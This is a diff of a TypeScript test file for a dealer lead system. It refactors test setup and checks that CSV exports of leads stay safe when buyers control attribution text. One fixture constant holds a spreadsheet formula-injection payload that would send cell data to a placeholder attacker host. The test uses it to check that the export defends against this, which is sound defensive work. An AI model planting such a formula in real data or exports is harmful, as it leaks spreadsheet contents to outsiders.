@@ -1,30 +1,19 @@
 import { parse } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import * as s from '@/server/db/schema';
-import { createTestDatabase, type TestDatabase } from '@/server/db/testing';
-import { seedIsolationSiteIds } from '@/server/db/testing/isolation-sites';
-import { solvedCaptchaForTest } from '@/server/leads/anti-spam/testing';
-import { handleLeadApi } from '@/server/lead-intake/handle-lead-api';
+import { postLeadForTest } from '@/server/lead-intake/testing';
 import { loadLeadForm } from '@/server/lead-forms/load-form';
-import { loadSiteContext, type SiteContext } from '@/server/sites/site-context';
+import { isolationSiteContextsForThisFile } from '@/server/sites/testing/isolation-site-contexts';
 import { LEADS_EXPORT_ENDPOINT } from './lead-endpoints';
 
 const NOW = new Date('2026-03-02T01:00:00Z');
 const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
-let test: TestDatabase;
-let site: SiteContext;
-
-beforeAll(async () => {
-  test = await createTestDatabase();
-  const [siteId] = await seedIsolationSiteIds(test.db, NOW);
-  site = await loadSiteContext(test.db, siteId);
-});
-afterAll(async () => test.close());
+const test = isolationSiteContextsForThisFile({ now: NOW });
 
 /** A buyer's enquiry through the lead API, as the form sends it, with attribution the buyer controls. */
 async function postLead(name: string, source: string, now: Date): Promise<string> {
-  const form = await loadLeadForm(test.db, site, { kind: 'enquiry', carId: null });
+  const form = await loadLeadForm(test.db, test.siteA, { kind: 'enquiry', carId: null });
   const body = {
     form_type: 'enquiry',
     car_id: null,
@@ -39,14 +28,8 @@ async function postLead(name: string, source: string, now: Date): Promise<string
     user_data: { url: '/cars', source },
     homepage_url: '',
     opened_at: now.getTime() - 20_000,
-    captcha: await solvedCaptchaForTest(test.db, site.id, 'enquiry'),
   };
-  const answer = await handleLeadApi(
-    test.db,
-    site,
-    { body: JSON.stringify(body), ip: null, userAgent: null },
-    now,
-  );
+  const answer = await postLeadForTest(test.db, test.siteA, body, { now, ip: null, userAgent: null });
   expect(answer.status).toBe(201);
   return (answer.body as { lead_id: string }).lead_id;
 }
@@ -54,7 +37,7 @@ async function postLead(name: string, source: string, now: Date): Promise<string
 /** A lead stored before the API cleaned attribution: its raw text reaches the export as it is. */
 async function storeOldLead(name: string, source: string, createdAt: Date) {
   await test.db.insert(s.leads).values({
-    siteId: site.id,
+    siteId: test.siteA.id,
     formType: 'enquiry',
     category: 'General Enquiry',
     name,
@@ -68,7 +51,7 @@ async function storeOldLead(name: string, source: string, createdAt: Date) {
 
 async function exportRows(): Promise<string[][]> {
   const staff = { id: 1, email: 'owner@dealer.example', name: null, role: 'owner' as const };
-  const context = { db: test.db, site, staff, now: NOW, origin: 'http://alpha.localhost:3000' };
+  const context = { db: test.db, site: test.siteA, staff, now: NOW, origin: 'http://alpha.localhost:3000' };
   const answer = await LEADS_EXPORT_ENDPOINT.run(context, {});
   expect(answer.status).toBe(200);
   // Any line break outside quotes ends a row, as Excel and LibreOffice read a file.
